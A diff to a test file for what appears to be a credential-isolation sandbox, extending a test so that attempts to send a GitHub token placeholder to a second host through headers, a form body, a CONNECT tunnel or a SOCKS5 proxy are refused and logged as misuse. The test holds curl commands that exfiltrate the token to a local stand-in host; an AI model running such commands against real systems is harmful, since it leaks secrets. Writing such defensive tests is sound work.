@@ -142,17 +142,20 @@ describe.each(runners())('credentials over HTTP ($label)', (runner: Runner) => {
     expect(seen[seen.length - 1]?.authorization).toBe(`Bearer ${TOKEN}`);
   });
 
-  it('the placeholder sent to a second allowed host is refused (403) and recorded as misuse; that host sees nothing', async () => {
+  it('the placeholder sent to a second allowed host, also in a body or through a CONNECT or SOCKS5 tunnel, is refused and recorded as misuse; that host sees nothing', async () => {
     const before = otherSeen.length;
-    const r = await run([...base(), '--', 'sh', '-c', `curl -sS -i -H "Authorization: Bearer $GITHUB_TOKEN" http://127.0.0.1:${OTHER}/steal; curl -sS -d "t=$GITHUB_TOKEN" http://127.0.0.1:${OTHER}/form; echo; curl -sS http://127.0.0.1:${OTHER}/plain`]);
+    const tunnels = `curl -sS -p -H "X-T: $GITHUB_TOKEN" http://127.0.0.1:${OTHER}/connect 2>/dev/null || echo; curl -sS --socks5-hostname 127.0.0.1:3128 -H "X-T: $GITHUB_TOKEN" http://127.0.0.1:${OTHER}/socks 2>/dev/null || echo`;
+    const r = await run([...base(), '--', 'sh', '-c', `curl -sS -i -H "Authorization: Bearer $GITHUB_TOKEN" http://127.0.0.1:${OTHER}/steal; curl -sS -d "t=$GITHUB_TOKEN" http://127.0.0.1:${OTHER}/form; ${tunnels}; echo; curl -sS http://127.0.0.1:${OTHER}/plain`]);
     expect(r.report.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden/);
     expect(r.report.stdout).toMatch(/x-isolate-denied: the placeholder of credential GITHUB_TOKEN was sent to 127\.0\.0\.1:\d+; it is only added for/i);
     expect(r.report.stdout.trimEnd().endsWith('other')).toBe(true);
     expect(otherSeen.slice(before).map((s) => s.url)).toEqual(['/plain']);
-    expect(r.report.network.credentials?.misuse).toBe(2);
+    expect(r.report.network.credentials?.misuse).toBe(4);
     expect(r.report.network.credentials?.events).toMatchObject([
       { kind: 'refused', host: '127.0.0.1', port: OTHER, method: 'GET', path: '/steal' },
       { kind: 'refused', host: '127.0.0.1', port: OTHER, method: 'POST', path: '/form' },
+      { kind: 'refused', host: '127.0.0.1', port: OTHER, method: 'CONNECT', path: '(tunnel)' },
+      { kind: 'refused', host: '127.0.0.1', port: OTHER, method: 'SOCKS5', path: '(tunnel)' },
     ]);
   });
 
